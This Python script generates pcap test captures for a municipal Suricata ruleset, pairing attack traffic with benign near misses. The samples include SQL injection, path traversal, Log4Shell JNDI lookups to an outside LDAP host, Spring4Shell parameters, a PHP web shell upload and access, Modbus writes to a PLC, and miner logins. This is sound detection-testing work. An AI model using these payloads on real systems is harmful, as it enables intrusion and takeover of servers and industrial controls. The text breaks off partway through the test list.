#!/usr/bin/env python3
"""mkmunicipal.py [--check] DIR - the captures of the municipal ruleset's tests.

Writes DIR/NAME/input.pcap for every test of rules/municipal/tests (DIR is that folder): each
holds the traffic a rule is written for (the positive case) and one or more near misses that
must stay quiet, as TCP sessions (handshake, data, FIN) and UDP datagrams between documented
addresses: $HOME_NET servers in 10.20.0.0/16, the OT network 10.30.0.0/16, outside hosts in
the documentation ranges 203.0.113.0/24 and 198.51.100.0/24. Byte-for-byte the same on every
run (fixed timestamps, sequence numbers and identifiers). With --check, nothing is written:
exit 1 and name each capture that differs from (or is missing in) DIR, so a test can prove
the committed captures are this script's.
"""
import hashlib
import struct
import sys

# --- addresses --------------------------------------------------------------------------
PORTAL = "10.20.1.10"        # the city's web portal
MAILSRV = "10.20.1.25"       # mail server (POP3, IMAP)
FTPSRV = "10.20.1.21"        # file server (FTP)
SWITCH = "10.20.2.2"         # a managed switch (SNMP, Telnet)
DESKTOP = "10.20.5.50"       # an office PC
DESKTOP2 = "10.20.5.51"
RESOLVER = "10.20.0.53"      # the city's DNS resolver
PLC = "10.30.0.5"            # a PLC of the water utility (OT_NET defaults to $HOME_NET)
HMI = "10.30.0.100"          # the operators' HMI, inside
ATTACKER = "203.0.113.66"    # outside
VISITOR = "203.0.113.80"     # outside, benign
REMOTE = "198.51.100.23"     # outside: a contractor's home
POOL = "198.51.100.77"       # outside: a mining pool
PUBDNS = "198.51.100.53"     # outside resolver
LISTED = "198.51.100.23"     # outside: the IOC tests' listed address (REMOTE's)
UNLISTED = "198.51.100.24"   # its neighbour, not listed
DESKTOP6 = "fd00:20:5::50"   # an office PC over IPv6 (the test sets $HOME_NET to fd00:20::/32)
LISTED6 = "2001:db8:bad::23" # outside: a listed IPv6 address
UNLISTED6 = "2001:db8:bad::24"

T0 = 1764547200  # 2025-12-01T00:00:00Z


def ip4(a):
    return bytes(int(x) for x in a.split("."))


def ip6(a):
    import ipaddress
    return ipaddress.IPv6Address(a).packed


def csum(data):
    if len(data) % 2:
        data += b"\x00"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


ETH = b"\x02\x00\x00\x00\x00\x02" + b"\x02\x00\x00\x00\x00\x01" + b"\x08\x00"


class Capture:
    """Frames with capture times: 1 ms apart, sessions 1 s apart."""

    def __init__(self):
        self.frames = []
        self.us = T0 * 1000000
        self.ipid = 1

    def frame(self, src, dst, proto, l4):
        if ":" in src:
            self.frame6(src, dst, proto, l4)
            return
        a, b = ip4(src), ip4(dst)
        if proto == 6:
            pseudo = a + b + struct.pack("!BBH", 0, 6, len(l4))
            l4 = l4[:16] + struct.pack("!H", csum(pseudo + l4)) + l4[18:]
        elif proto == 17:
            pseudo = a + b + struct.pack("!BBH", 0, 17, len(l4))
            c = csum(pseudo + l4) or 0xFFFF
            l4 = l4[:6] + struct.pack("!H", c) + l4[8:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), self.ipid, 0x4000, 64, proto,
                         0, a, b)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        self.ipid = (self.ipid + 1) & 0xFFFF
        self.frames.append((self.us, ETH + ip + l4))
        self.us += 1000

    def frame6(self, src, dst, proto, l4):
        a, b = ip6(src), ip6(dst)
        pseudo = a + b + struct.pack("!IxxxB", len(l4), proto)
        if proto == 6:
            l4 = l4[:16] + struct.pack("!H", csum(pseudo + l4)) + l4[18:]
        elif proto == 17:
            l4 = l4[:6] + struct.pack("!H", csum(pseudo + l4) or 0xFFFF) + l4[8:]
        ip = struct.pack("!IHBB16s16s", 0x60000000, len(l4), proto, 64, a, b)
        self.frames.append((self.us, ETH[:12] + b"\x86\xdd" + ip + l4))
        self.us += 1000

    def pause(self, seconds=1.0):
        self.us += int(seconds * 1000000)

    def bytes(self):
        out = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)]
        for us, fr in self.frames:
            out.append(struct.pack("<IIII", us // 1000000, us % 1000000, len(fr), len(fr)))
            out.append(fr)
        return b"".join(out)


def tcp_seg(sp, dp, seq, ack, flags, payload=b""):
    return struct.pack("!HHIIBBHHH", sp, dp, seq, ack, 0x50, flags, 65535, 0, 0) + payload


def tcp(cap, cli, sport, srv, dport, exchanges, close=True):
    """A TCP session: handshake, then each (to_server, payload) in order, each answered by
    an ACK, then FIN both ways. Payloads longer than 1400 bytes go as several segments."""
    c, s = 1000 + sport * 7, 50000 + dport * 13
    cap.frame(cli, srv, 6, tcp_seg(sport, dport, c, 0, 0x02))
    cap.frame(srv, cli, 6, tcp_seg(dport, sport, s, c + 1, 0x12))
    c += 1
    s += 1
    cap.frame(cli, srv, 6, tcp_seg(sport, dport, c, s, 0x10))
    for to_server, data in exchanges:
        for i in range(0, len(data), 1400):
            part = data[i:i + 1400]
            if to_server:
                cap.frame(cli, srv, 6, tcp_seg(sport, dport, c, s, 0x18, part))
                c += len(part)
                cap.frame(srv, cli, 6, tcp_seg(dport, sport, s, c, 0x10))
            else:
                cap.frame(srv, cli, 6, tcp_seg(dport, sport, s, c, 0x18, part))
                s += len(part)
                cap.frame(cli, srv, 6, tcp_seg(sport, dport, c, s, 0x10))
    if close:
        cap.frame(cli, srv, 6, tcp_seg(sport, dport, c, s, 0x11))
        cap.frame(srv, cli, 6, tcp_seg(dport, sport, s, c + 1, 0x11))
        cap.frame(cli, srv, 6, tcp_seg(sport, dport, c + 1, s + 1, 0x10))
    cap.pause()


def udp(cap, src, sport, dst, dport, payload, reply=None):
    cap.frame(src, dst, 17, struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload)
    if reply is not None:
        cap.frame(dst, src, 17, struct.pack("!HHHH", dport, sport, 8 + len(reply), 0) + reply)
    cap.pause(0.01)


# --- application payloads ----------------------------------------------------------------
def http_req(method, uri, host="portal.city.example", headers=(), body=b""):
    h = "%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\n" % (
        method, uri, host)
    for k, v in headers:
        h += "%s: %s\r\n" % (k, v)
    if body:
        h += "Content-Length: %d\r\n" % len(body)
    return h.encode() + b"\r\n" + body


def http_resp(status=200, body=b"<html><body>ok</body></html>\n", ctype="text/html"):
    reason = {200: "OK", 401: "Unauthorized", 404: "Not Found"}.get(status, "OK")
    return (b"HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
            % (status, reason.encode(), ctype.encode(), len(body)) + body)


def http(cap, cli, sport, req, status=200, srv=PORTAL, dport=80):
    tcp(cap, cli, sport, srv, dport, [(True, req), (False, http_resp(status))])


def multipart(filename, content, ctype="application/octet-stream"):
    b = b"----seawalltestboundary"
    body = (b"--" + b + b"\r\nContent-Disposition: form-data; name=\"file\"; filename=\""
            + filename.encode() + b"\"\r\nContent-Type: " + ctype.encode() + b"\r\n\r\n"
            + content + b"\r\n--" + b + b"--\r\n")
    return body, "multipart/form-data; boundary=" + b.decode()


def dns_query(qid, name, qtype=1):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\x00"
    return struct.pack("!HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + struct.pack("!HH", qtype, 1)


def dns_answer(query, addr="192.0.2.1"):
    qid = query[:2]
    return (qid + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + query[12:]
            + b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + ip4(addr))


def snmp_get(community, reqid=1):
    """SNMPv2c GetRequest for sysDescr.0."""
    oid = b"\x06\x08\x2b\x06\x01\x02\x01\x01\x01\x00"
    varbind = b"\x30" + bytes([len(oid) + 2]) + oid + b"\x05\x00"
    vbl = b"\x30" + bytes([len(varbind)]) + varbind
    pdu_body = b"\x02\x01" + bytes([reqid]) + b"\x02\x01\x00\x02\x01\x00" + vbl
    pdu = b"\xa0" + bytes([len(pdu_body)]) + pdu_body
    c = community.encode()
    msg = b"\x02\x01\x01" + b"\x04" + bytes([len(c)]) + c + pdu
    return b"\x30" + bytes([len(msg)]) + msg


def modbus(tid, unit, fc, data):
    pdu = bytes([fc]) + data
    return struct.pack("!HHHB", tid, 0, len(pdu) + 1, unit) + pdu


def tpkt_cotp_cr():
    """X.224 Connection Request in TPKT (RDP and S7comm start with it)."""
    cotp = b"\x0e\xe0\x00\x00\x00\x01\x00\xc1\x02\x01\x00\xc2\x02\x01\x02"
    return struct.pack("!BBH", 3, 0, 4 + len(cotp)) + cotp


def rdp_cr(cookie="mstshash=operator"):
    x224 = b"\xe0\x00\x00\x00\x00\x00" + b"Cookie: " + cookie.encode() + b"\r\n" + \
        b"\x01\x00\x08\x00\x03\x00\x00\x00"
    return struct.pack("!BBH", 3, 0, 5 + len(x224)) + bytes([len(x224)]) + x224


def s7_setup():
    s7 = b"\x32\x01\x00\x00\x00\x00\x00\x08\x00\x00\xf0\x00\x00\x01\x00\x01\x01\xe0"
    cotp = b"\x02\xf0\x80"
    return struct.pack("!BBH", 3, 0, 4 + len(cotp) + len(s7)) + cotp + s7


def iso_dt(payload):
    cotp = b"\x02\xf0\x80"
    return struct.pack("!BBH", 3, 0, 4 + len(cotp) + len(payload)) + cotp + payload


def dnp3_read():
    """DNP3 link header (05 64), a READ of class 0 data."""
    return b"\x05\x64\x0b\xc4\x01\x00\x03\x00\x7b\x5b\xc0\xc1\x01\x3c\x01\x06\xd4\x5f"


def iec104_startdt():
    return b"\x68\x04\x07\x00\x00\x00"


def bacnet_whois():
    return b"\x81\x0b\x00\x0c\x01\x20\xff\xff\x00\xff\x10\x08"


def client_hello(sni):
    """A TLS 1.2 ClientHello with a server_name, supported_groups and ec_point_formats."""
    name = sni.encode()
    ext_sni = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    ext_groups = struct.pack("!HHH", 10, 6, 4) + b"\x00\x1d\x00\x17"
    ext_points = struct.pack("!HHB", 11, 2, 1) + b"\x00"
    exts = ext_sni + ext_groups + ext_points
    suites = b"\xc0\x2b\xc0\x2f\xc0\x2c\xc0\x30\x00\x9c\x00\x2f"
    body = (b"\x03\x03" + bytes(range(32)) + b"\x00" + struct.pack("!H", len(suites)) + suites
            + b"\x01\x00" + struct.pack("!H", len(exts)) + exts)
    hs = b"\x01" + struct.pack("!I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def stratum(method, params):
    return ('{"id": 1, "method": "%s", "params": %s}\n' % (method, params)).encode()


# --- the tests: positive first (client port 40001), then the near misses (40002, ...) -----------
def t_sqli_union(c):
    http(c, ATTACKER, 40001, http_req("GET", "/search.php?q=1%27%20UNION%20ALL%20SELECT%20"
                                      "username,password%20FROM%20users--"))
    http(c, VISITOR, 40002, http_req("GET", "/search.php?q=union+station+select+bus+line"))
    http(c, VISITOR, 40003, http_req("GET", "/news/trade-union-selects-new-chair"))


def t_sqli_tautology(c):
    http(c, ATTACKER, 40001, http_req("GET", "/login.php?user=admin%27%20OR%20%271%27=%271&pw=x"))
    http(c, VISITOR, 40002, http_req("GET", "/books.php?q=o%27reilly+or+1=2+editions"))


def t_sqli_sleep(c):
    http(c, ATTACKER, 40001, http_req("GET", "/item.php?id=7%20AND%20SLEEP(5)--"))
    http(c, VISITOR, 40002, http_req("GET", "/health/sleep-well-guide?page=5"))


def t_sqli_body(c):
    body = b"username=admin%27+or+%27a%27%3d%27a&password=x"
    http(c, ATTACKER, 40001, http_req("POST", "/login.php", headers=[
        ("Content-Type", "application/x-www-form-urlencoded")], body=body))
    near = b"username=jo+o%27neil&password=or+a+b"
    http(c, VISITOR, 40002, http_req("POST", "/login.php", headers=[
        ("Content-Type", "application/x-www-form-urlencoded")], body=near))


def t_path_traversal(c):
    http(c, ATTACKER, 40001, http_req("GET", "/download.php?file=..%2f..%2f..%2fvar%2fwww%2f"
                                      "config.php"), status=404)
    http(c, VISITOR, 40002, http_req("GET", "/docs/annual-report..2024/summary.pdf"), status=404)


def t_system_file(c):
    http(c, ATTACKER, 40001, http_req("GET", "/cgi-bin/view?page=/etc/passwd"), status=404)
    http(c, VISITOR, 40002, http_req("GET", "/help/etc/passwd-reset-howto"), status=404)


JNDI = "${jndi:ldap://198.51.100.9:1389/a}"
JNDI_OBF = "${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}"


def t_log4shell_header(c):
    http(c, ATTACKER, 40001, http_req("GET", "/", headers=[("X-Api-Version", JNDI)]))
    http(c, ATTACKER, 40002, http_req("GET", "/", headers=[("User-Agent", JNDI_OBF)]))
    http(c, VISITOR, 40003, http_req("GET", "/", headers=[("X-Template", "${user.name} ${java:version}")]))


def t_log4shell_uri(c):
    http(c, ATTACKER, 40001, http_req("GET", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D"))
    http(c, VISITOR, 40002, http_req("GET", "/search?q=%24%7Bprice%7D+jndi+tutorial"))


def t_log4shell_body(c):
    body = ('{"name": "%s"}' % JNDI).encode()
    http(c, ATTACKER, 40001, http_req("POST", "/api/feedback", headers=[
        ("Content-Type", "application/json")], body=body))
    http(c, VISITOR, 40002, http_req("POST", "/api/feedback", headers=[
        ("Content-Type", "application/json")], body=b'{"name": "${name}", "note": "jndi:"}'))


def t_spring4shell_uri(c):
    http(c, ATTACKER, 40001, http_req("GET", "/app/index?class.module.classLoader.resources."
                                      "context.parent.pipeline.first.pattern=x"))
    http(c, VISITOR, 40002, http_req("GET", "/app/index?class=module&loader=classic"))


def t_spring4shell_body(c):
    body = (b"class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&"
            b"class.module.classLoader.resources.context.parent.pipeline.first.prefix=shell")
    http(c, ATTACKER, 40001, http_req("POST", "/app/register", headers=[
        ("Content-Type", "application/x-www-form-urlencoded")], body=body))
    http(c, VISITOR, 40002, http_req("POST", "/app/register", headers=[
        ("Content-Type", "application/x-www-form-urlencoded")],
        body=b"class=module-7&classLoader=none"))


def t_webshell_upload(c):
    body, ct = multipart("avatar.php", b"<?php system($_GET['c']); ?>\n", "image/png")
    http(c, ATTACKER, 40001, http_req("POST", "/profile/upload", headers=[("Content-Type", ct)],
                                      body=body))
    body, ct = multipart("avatar.php.jpg", b"\xff\xd8\xff\xe0 not really a jpeg\n", "image/jpeg")
    http(c, VISITOR, 40002, http_req("POST", "/profile/upload", headers=[("Content-Type", ct)],
                                     body=body))


def t_webshell_access(c):
    http(c, ATTACKER, 40001, http_req("GET", "/wp-content/uploads/2025/11/avatar.php?c=id"))
    http(c, VISITOR, 40002, http_req("GET", "/wp-content/uploads/2025/11/avatar.png"))
    http(c, VISITOR, 40003, http_req("GET", "/upload.php"))


def t_git_env_probe(c):
    http(c, ATTACKER, 40001, http_req("GET", "/.git/config"), status=404)
    http(c, ATTACKER, 40002, http_req("GET", "/.env"), status=404)
    http(c, VISITOR, 40003, http_req("GET", "/environment/.environmental-report.pdf"), status=404)


def t_admin_probe(c):
    # one alert per source an hour, however many paths it tries
    for i, p in enumerate(["/phpmyadmin/", "/manager/html", "/wp-login.php"]):
        http(c, ATTACKER, 40001 + i, http_req("GET", p), status=404)
    http(c, VISITOR, 40010, http_req("GET", "/about/administration/council"), status=200)


def t_http_basic(c):
    http(c, VISITOR, 40001, http_req("GET", "/intranet/", host="intranet.city.example",
                                     headers=[("Authorization", "Basic Y2xlcms6d2ludGVyMjAyNQ==")]))
    http(c, VISITOR, 40002, http_req("GET", "/api/v1/status", headers=[
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig")]))


def t_ftp_pass(c):
    tcp(c, DESKTOP, 40001, FTPSRV, 21, [
        (False, b"220 city FTP ready\r\n"), (True, b"USER clerk\r\n"),
        (False, b"331 Password required\r\n"), (True, b"PASS winter2025\r\n"),
        (False, b"230 Logged in\r\n"), (True, b"QUIT\r\n")])
    tcp(c, DESKTOP, 40002, FTPSRV, 21, [
        (False, b"220 city FTP ready\r\n"), (True, b"USER anonymous\r\n"),
        (False, b"331 Guest login ok\r\n"), (True, b"PASV\r\n"),
        (False, b"227 Entering Passive Mode\r\n"), (True, b"QUIT\r\n")])


def t_telnet_login(c):
    tcp(c, DESKTOP, 40001, SWITCH, 23, [
        (False, b"\r\nUser Access Verification\r\n\r\nUsername: "), (True, b"admin\r\n"),
        (False, b"Password: "), (True, b"cisco\r\n"), (False, b"\r\nswitch-7>")])
    tcp(c, DESKTOP, 40002, SWITCH, 23, [
        (False, b"\r\nWelcome. Change your password regularly.\r\nswitch-7> "),
        (True, b"show version\r\n")])


def t_pop3_pass(c):
    tcp(c, DESKTOP, 40001, MAILSRV, 110, [
        (False, b"+OK POP3 ready\r\n"), (True, b"USER clerk\r\n"), (False, b"+OK\r\n"),
        (True, b"PASS winter2025\r\n"), (False, b"+OK 2 messages\r\n"), (True, b"QUIT\r\n")])
    tcp(c, DESKTOP, 40002, MAILSRV, 110, [
        (False, b"+OK POP3 ready <1896.697170952@mail.city.example>\r\n"),
        (True, b"APOP clerk c4c9334bac560ecc979e58001b3e22fb\r\n"), (False, b"+OK\r\n"),
        (True, b"QUIT\r\n")])


def t_imap_login(c):
    tcp(c, DESKTOP, 40001, MAILSRV, 143, [
        (False, b"* OK IMAP4rev1 ready\r\n"), (True, b"a1 LOGIN clerk winter2025\r\n"),
        (False, b"a1 OK LOGIN completed\r\n"), (True, b"a2 LOGOUT\r\n")])
    tcp(c, DESKTOP, 40002, MAILSRV, 143, [
        (False, b"* OK IMAP4rev1 ready\r\n"), (True, b"a1 CAPABILITY\r\n"),
        (False, b"* CAPABILITY IMAP4rev1 STARTTLS LOGINDISABLED\r\na1 OK\r\n"),
        (True, b"a2 STARTTLS\r\n")])


def t_snmp_public(c):
    udp(c, DESKTOP, 40001, SWITCH, 161, snmp_get("public"))
    udp(c, DESKTOP, 40002, SWITCH, 161, snmp_get("publicity", 2))
    udp(c, DESKTOP, 40003, SWITCH, 161, snmp_get("private", 3))


def t_snmp_private(c):
    udp(c, DESKTOP, 40001, SWITCH, 161, snmp_get("private"))
    udp(c, DESKTOP, 40002, SWITCH, 161, snmp_get("privates", 2))


def t_rdp_outside(c):
    tcp(c, REMOTE, 40001, DESKTOP, 3389, [(True, rdp_cr()), (False, b"\x03\x00\x00\x13\x0e\xd0"
                                                                   b"\x00\x00\x12\x34\x00\x02"
                                                                   b"\x00\x08\x00\x02\x00\x00"
                                                                   b"\x00")])
    tcp(c, DESKTOP2, 40002, DESKTOP, 3389, [(True, rdp_cr()), (False, b"\x03\x00\x00\x13\x0e"
                                                                    b"\xd0\x00\x00\x12\x34\x00"
                                                                    b"\x02\x00\x08\x00\x02\x00"
                                                                    b"\x00\x00")])


def t_vnc_outside(c):
    tcp(c, REMOTE, 40001, DESKTOP, 5900, [(False, b"RFB 003.008\n"), (True, b"RFB 003.008\n"),
                                          (False, b"\x01\x02")])
    tcp(c, DESKTOP2, 40002, DESKTOP, 5900, [(False, b"RFB 003.008\n"), (True, b"RFB 003.008\n"),
                                            (False, b"\x01\x02")])


def smb1_negotiate():
    smb = (b"\xffSMB\x72\x00\x00\x00\x00\x18\x53\xc8" + b"\x00" * 12 + b"\xff\xfe\x00\x00\x00\x00"
           + b"\x00\x22\x00\x02NT LM 0.12\x00\x02SMB 2.002\x00\x02SMB 2.???\x00")
    return struct.pack("!I", len(smb)) + smb


def smb2_negotiate():
    smb = (b"\xfeSMB\x40\x00" + b"\x00" * 58 + b"\x24\x00\x02\x00\x01\x00\x00\x00\x7f\x00\x00\x00"
           + b"\x00" * 16 + b"\x00" * 8 + b"\x02\x02\x10\x02")
    return struct.pack("!I", len(smb)) + smb


def t_smb1_outside(c):
    tcp(c, ATTACKER, 40001, FTPSRV, 445, [(True, smb1_negotiate())])
    tcp(c, ATTACKER, 40002, FTPSRV, 445, [(True, smb2_negotiate())])
    tcp(c, DESKTOP, 40003, FTPSRV, 445, [(True, smb1_negotiate())])


def t_dns_long_label(c):
    # the near misses first: one alert a minute per host (threshold), so a near miss that
    # matched would take the alert from the query after it
    q = dns_query(0x1002, "d1a2b3c4e5f60718293a4b5c6d7e8f90.cloudfront.example")  # 32
    udp(c, DESKTOP, 40002, RESOLVER, 53, q, dns_answer(q))
    q = dns_query(0x1003, "www.city.example")
    udp(c, DESKTOP, 40003, RESOLVER, 53, q, dns_answer(q))
    label = "mzxw6ytboi2gk3tfnzsxe5dfmvzgk3twmvzgs3tfnzsxe5dfojsxg5dfn5zq"  # 60 characters
    q = dns_query(0x1001, label + ".t.exfil.example")
    udp(c, DESKTOP, 40001, RESOLVER, 53, q, dns_answer(q))


def t_dns_rate(c):
    # 100 queries in 5 s from one host: an alert at the 100th; 60 from another host: none
    for i in range(100):
        q = dns_query(0x2000 + i, "c%03d.t.exfil.example" % i)
        udp(c, DESKTOP, 41000 + i, RESOLVER, 53, q, dns_answer(q))
        c.pause(0.04)
    for i in range(60):
        q = dns_query(0x3000 + i, "host%02d.city.example" % i)
        udp(c, DESKTOP2, 42000 + i, RESOLVER, 53, q, dns_answer(q))
        c.pause(0.04)


def t_teamviewer(c):
    hello = b"\x17\x24\x0a\x20\x00\x5a\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    tcp(c, DESKTOP, 40001, REMOTE, 5938, [(True, hello), (False, b"\x17\x24\x0b\x20\x00" +
                                                       b"\x00" * 11)])
    tcp(c, DESKTOP, 40002, REMOTE, 5938, [(True, b"\x17\x25" + hello[2:]),
                                          (False, b"\x00" * 16)])


def t_teamviewer_udp(c):
    pkt = b"\x00" + b"\x11" * 10 + b"\x17\x24" + b"\x00" * 13
    udp(c, DESKTOP, 40001, REMOTE, 5938, pkt, b"\x00" + b"\x22" * 10 + b"\x17\x24" + b"\x00" * 13)
    udp(c, DESKTOP, 40002, REMOTE, 5938, b"\x00" + b"\x11" * 10 + b"\x17\x25" + b"\x00" * 13)


def t_modbus_outside(c):
    tcp(c, ATTACKER, 40001, PLC, 502, [(True, modbus(1, 1, 3, b"\x00\x00\x00\x0a")),
                                       (False, modbus(1, 1, 3, b"\x14" + b"\x00" * 20))])
    tcp(c, HMI, 40002, PLC, 502, [(True, modbus(1, 1, 3, b"\x00\x00\x00\x0a")),
                                  (False, modbus(1, 1, 3, b"\x14" + b"\x00" * 20))])


def t_modbus_write(c):
    # the near misses first: the rule alerts once a minute per host pair (threshold), so a
    # near miss that matched would take the alert from the write after it
    tcp(c, HMI, 40002, PLC, 502, [(True, modbus(8, 1, 3, b"\x00\x10\x00\x02")),
                                  (False, modbus(8, 1, 3, b"\x04\x00\x2a\x00\x00"))])
    tcp(c, HMI, 40003, PLC, 502, [(True, modbus(9, 1, 4, b"\x00\x10\x00\x06")),
                                  (False, modbus(9, 1, 4, b"\x0c" + b"\x00" * 12))])
    tcp(c, HMI, 40001, PLC, 502, [(True, modbus(7, 1, 6, b"\x00\x10\x00\x2a")),
                                  (False, modbus(7, 1, 6, b"\x00\x10\x00\x2a"))])


def t_dnp3_outside(c):
    tcp(c, ATTACKER, 40001, PLC, 20000, [(True, dnp3_read())])
    tcp(c, HMI, 40002, PLC, 20000, [(True, dnp3_read())])


def t_iec104_outside(c):
    tcp(c, ATTACKER, 40001, PLC, 2404, [(True, iec104_startdt()), (False, b"\x68\x04\x0b\x00\x00\x00")])
    tcp(c, HMI, 40002, PLC, 2404, [(True, iec104_startdt()), (False, b"\x68\x04\x0b\x00\x00\x00")])


def t_s7_outside(c):
    tcp(c, ATTACKER, 40001, PLC, 102, [(True, tpkt_cotp_cr()), (False, b"\x03\x00\x00\x16\x11"
                                                                     b"\xd0" + b"\x00" * 16),
                                       (True, s7_setup())])
    tcp(c, ATTACKER, 40002, PLC, 102, [(True, tpkt_cotp_cr()), (False, b"\x03\x00\x00\x16\x11"
                                                                     b"\xd0" + b"\x00" * 16),
                                       (True, iso_dt(b"\x72\x01\x00\x00"))])
    tcp(c, HMI, 40003, PLC, 102, [(True, tpkt_cotp_cr()), (True, s7_setup())])


def t_bacnet_outside(c):
    udp(c, ATTACKER, 40001, PLC, 47808, bacnet_whois())
    udp(c, ATTACKER, 40002, PLC, 47808, b"\x82\x0b\x00\x0c" + bacnet_whois()[4:])
    udp(c, HMI, 40003, PLC, 47808, bacnet_whois())


def t_stratum(c):
    tcp(c, DESKTOP, 40001, POOL, 3333, [
        (True, stratum("mining.subscribe", '["xmrig/6.21.0"]')),
        (False, b'{"id":1,"result":[[["mining.notify","ae6812eb4cd7735a"]],"08000002",4],'
                b'"error":null}\n'),
        (True, stratum("mining.authorize", '["44AFFq5kSiGBoZ.worker1", "x"]'))])
    tcp(c, DESKTOP, 40002, POOL, 3333, [
        (True, b'{"jsonrpc": "2.0", "id": 1, "method": "eth_blockNumber", "params": []}\n'),
        (False, b'{"jsonrpc":"2.0","id":1,"result":"0x10d4f"}\n')])
    tcp(c, DESKTOP, 40003, POOL, 80, [
        (True, http_req("GET", "/blog/what-is-mining.subscribe", host="pool.example"))])


def t_ioc_domain_dns(c):
    q = dns_query(0x4001, "update.bad-domain.example")
    udp(c, DESKTOP, 40001, RESOLVER, 53, q, dns_answer(q))
    q = dns_query(0x4002, "update.bad-domain.example.city.example")
    udp(c, DESKTOP, 40002, RESOLVER, 53, q, dns_answer(q))
    q = dns_query(0x4003, "bad-domain.example")
    udp(c, DESKTOP, 40003, RESOLVER, 53, q, dns_answer(q))


def t_ioc_domain_http(c):
    http(c, DESKTOP, 40001, http_req("GET", "/gate.php", host="update.bad-domain.example"),
         srv=REMOTE)
    http(c, DESKTOP, 40002, http_req("GET", "/gate.php", host="update.bad-domain.example.net"),
         srv=REMOTE)


def t_ioc_domain_tls(c):
    tcp(c, DESKTOP, 40001, REMOTE, 443, [(True, client_hello("update.bad-domain.example"))])
    tcp(c, DESKTOP, 40002, REMOTE, 443, [(True, client_hello("update.bad-domain.example.org"))])


def t_ioc_ip_http(c):
    http(c, DESKTOP, 40001, http_req("GET", "/gate.php", host="198.51.100.23"), srv=REMOTE)
    http(c, DESKTOP, 40002, http_req("GET", "/gate.php", host="198.51.100.24"), srv=REMOTE)


def t_ioc_ip_outbound(c):
    """A city host talking to a listed address, over IPv4 and IPv6; the near misses talk to
    the addresses next to them."""
    tcp(c, DESKTOP, 40001, LISTED, 443, [(True, b"\x16\x03\x01hello"), (False, b"bye")])
    tcp(c, DESKTOP, 40002, UNLISTED, 443, [(True, b"\x16\x03\x01hello"), (False, b"bye")])
    tcp(c, DESKTOP6, 40003, LISTED6, 443, [(True, b"\x16\x03\x01hello"), (False, b"bye")])
    tcp(c, DESKTOP6, 40004, UNLISTED6, 443, [(True, b"\x16\x03\x01hello"), (False, b"bye")])


def t_ioc_ip_inbound(c):
    """A listed address connecting to the portal; the near misses: its neighbour doing the
    same, and the portal's answers in a connection the city opened to the listed address
    (from the listed address into $HOME_NET, but not a connection it started)."""
    tcp(c, LISTED, 40001, PORTAL, 443, [(True, b"\x16\x03\x01hello"), (False, b"bye")])
    tcp(c, UNLISTED, 40002, PORTAL, 443, [(True, b"\x16\x03\x01hello"), (False, b"bye")])
    udp(c, PORTAL, 40003, LISTED, 123, b"\x23" + b"\x00" * 47, b"\x24" + b"\x00" * 47)


# The IOC file tests' file: its sha256 is in tests/data/municipal-ioc/ioc/sha256.lst.
IOC_FILE = b"MZ\x90\x00" + b"SEAWALL MUNICIPAL IOC TEST FILE - NOT MALWARE\r\n" * 16


def t_ioc_file_sha256(c):
    """The listed file downloaded (40001) and uploaded (40004); the near misses: the file
    with its last byte changed (40002), and the listed file's bytes in a response that
    promised 10 bytes more and ended (a truncated file: Suricata hashes only whole files)."""
    ok = (b"HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
          b"Content-Length: %d\r\n\r\n")
    get = http_req("GET", "/downloads/update.exe", host="updates.vendor.example")
    tcp(c, DESKTOP, 40001, REMOTE, 80, [(True, get), (False, ok % len(IOC_FILE) + IOC_FILE)])
    other = IOC_FILE[:-1] + b"!"
    tcp(c, DESKTOP, 40002, REMOTE, 80, [(True, get), (False, ok % len(other) + other)])
    tcp(c, DESKTOP, 40003, REMOTE, 80,
        [(True, get), (False, ok % (len(IOC_FILE) + 10) + IOC_FILE)])
    put = http_req("PUT", "/upload/update.exe", host="files.city.example", body=IOC_FILE)
    tcp(c, DESKTOP, 40004, PORTAL, 80, [(True, put), (False, http_resp(201))])


TESTS = {
    "web-sqli-union-select": t_sqli_union,
    "web-sqli-tautology": t_sqli_tautology,
    "web-sqli-time-delay": t_sqli_sleep,
    "web-sqli-form-post": t_sqli_body,
    "web-path-traversal": t_path_traversal,
    "web-system-file": t_system_file,
    "web-log4shell-header": t_log4shell_header,
    "web-log4shell-uri": t_log4shell_uri,
    "web-log4shell-body": t_log4shell_body,
    "web-spring4shell-uri": t_spring4shell_uri,
    "web-spring4shell-body": t_spring4shell_body,
    "web-webshell-upload": t_webshell_upload,
    "web-webshell-access": t_webshell_access,
    "web-git-env-probe": t_git_env_probe,
    "web-admin-panel-probe": t_admin_probe,
    "cleartext-http-basic": t_http_basic,
    "cleartext-ftp-password": t_ftp_pass,
    "cleartext-telnet-login": t_telnet_login,
    "cleartext-pop3-password": t_pop3_pass,
    "cleartext-imap-login": t_imap_login,
    "cleartext-snmp-public": t_snmp_public,
    "cleartext-snmp-private": t_snmp_private,
    "remote-rdp-outside": t_rdp_outside,
    "remote-vnc-outside": t_vnc_outside,
    "remote-smb1-outside": t_smb1_outside,
    "remote-dns-long-label": t_dns_long_label,
    "remote-dns-query-rate": t_dns_rate,
    "remote-teamviewer": t_teamviewer,
    "remote-teamviewer-udp": t_teamviewer_udp,
    "ics-modbus-outside": t_modbus_outside,
    "ics-modbus-write": t_modbus_write,
